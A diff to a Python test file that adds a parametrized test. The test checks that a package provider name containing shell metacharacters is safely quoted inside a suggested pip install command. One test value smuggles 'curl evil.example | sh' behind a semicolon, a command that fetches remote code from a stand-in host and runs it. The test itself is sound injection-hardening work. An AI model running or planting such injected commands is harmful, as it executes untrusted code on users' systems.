@@ -148,6 +148,16 @@ def test_names_of_a_stranger_stay_one_word_and_one_line(checkpoint: Any, here: A
     assert """pip install '?med'"'"';x==2.1'""" in output
 
 
+@pytest.mark.parametrize("provider", ["x; curl evil.example | sh #", "; ", "a; b"])
+def test_the_command_is_not_what_the_file_puts_behind_a_semicolon(
+    checkpoint: Any, here: Any, provider: str
+) -> None:
+    here()
+    record = {**UNET, "name": f"{provider}/unet", "provider": provider}
+    fix = network(checkpoint(nn_module=record)).fix
+    assert fix == f"pip install '?{provider}==2.1'"
+
+
 def test_what_was_never_in_a_package_says_so(checkpoint: Any, here: Any) -> None:
     here()
     record = dict.fromkeys(UNET) | {"as": "net", "entry_point": "__main__:Net"}
